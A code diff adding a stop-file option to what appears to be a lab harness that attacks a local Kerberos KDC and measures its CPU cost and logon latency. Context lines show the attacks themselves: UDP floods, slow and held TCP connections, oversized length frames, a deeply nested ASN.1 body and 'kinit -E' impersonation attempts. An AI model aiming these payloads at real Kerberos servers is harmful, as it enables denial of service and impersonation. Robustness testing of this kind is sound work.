@@ -17,6 +17,12 @@ window (the quiet one too), from 127.0.0.1, and the wall time of those logons is
 """
 import argparse, json, os, random, socket, struct, subprocess, threading, time
 
+STOP_FILE = None
+
+def running(stop):
+    """Until the deadline, or until --stop-file exists."""
+    return time.time() < stop and not (STOP_FILE and os.path.exists(STOP_FILE))
+
 def connect(a, timeout):
     """A TCP connection to the KDC from the attacker's own loopback address (--source), as a remote host would."""
     return socket.create_connection((a.host, a.port), timeout=timeout, source_address=(a.source, 0))
@@ -26,7 +32,7 @@ def udp_noise(a, stop, out):
     s.bind((a.source, 0))
     s.settimeout(0.001)
     sent = replies = 0
-    while time.time() < stop:
+    while running(stop):
         payload = bytes([random.choice([0x30, 0x00, 0x7e, 0xff])]) + os.urandom(random.randint(0, 200))
         s.sendto(payload, (a.host, a.port))
         sent += 1
@@ -41,7 +47,7 @@ def udp_noise(a, stop, out):
 
 def tcp_slow(a, stop, out):
     conns, opened, cut, lifetimes = [], 0, 0, []
-    while time.time() < stop:
+    while running(stop):
         while len(conns) < a.slow:
             try:
                 c = connect(a, 2)
@@ -79,7 +85,7 @@ def tcp_hold(a, stop, out):
             pass
         except OSError:
             closed += 1
-    while time.time() < stop:
+    while running(stop):
         time.sleep(0.5)
     for c in held:
         c.close()
@@ -97,7 +103,7 @@ def frame_reply(payload):
 
 def tcp_oversize(a, stop, out):
     sent, answered = 0, 0
-    while time.time() < stop:
+    while running(stop):
         for n in (0x7FFFFFFF, 64 << 20):
             sent += 1
             if frame_reply(struct.pack(">I", n) + b"\x6a\x84") > 0:
@@ -109,7 +115,7 @@ def nested(a, stop, out):
     depth = 20000
     body = b"\x6a\x80" + b"\x30\x80" * depth + b"\x00\x00" * (depth + 1)
     sent, answered = 0, 0
-    while time.time() < stop:
+    while running(stop):
         sent += 1
         if frame_reply(struct.pack(">I", len(body)) + body) > 0:
             answered += 1
@@ -128,13 +134,13 @@ def kinit_ms(a, user, name):
 
 def legit_logons(a, stop, latencies):
     """bob logs on with MIT kinit once a second while an attack runs (--cost-pid with --lab)."""
-    while time.time() < stop:
+    while running(stop):
         latencies.append(kinit_ms(a, "bob", ["bob"]))
         time.sleep(1)
 
 def impersonate(a, stop, out):
     tries = granted = 0
-    while time.time() < stop:
+    while running(stop):
         tries += 1
         granted += kinit_ms(a, "alice", ["-E", "bob"]) is not None
         time.sleep(2)
@@ -153,7 +159,9 @@ if __name__ == "__main__":
     p.add_argument("--lab", help="lab folder: adds the impersonation attempts with MIT kinit")
     p.add_argument("--cost-pid", type=int, help="the KDC's pid: measure its CPU per attack, one attack at a time")
     p.add_argument("--cost-seconds", type=float, default=10)
+    p.add_argument("--stop-file", help="stop early once this file exists")
     A = p.parse_args()
+    STOP_FILE = A.stop_file
     out = {}
     attacks = [udp_noise, tcp_slow, tcp_hold, tcp_oversize, nested] + ([impersonate] if A.lab else [])
     if A.cost_pid:
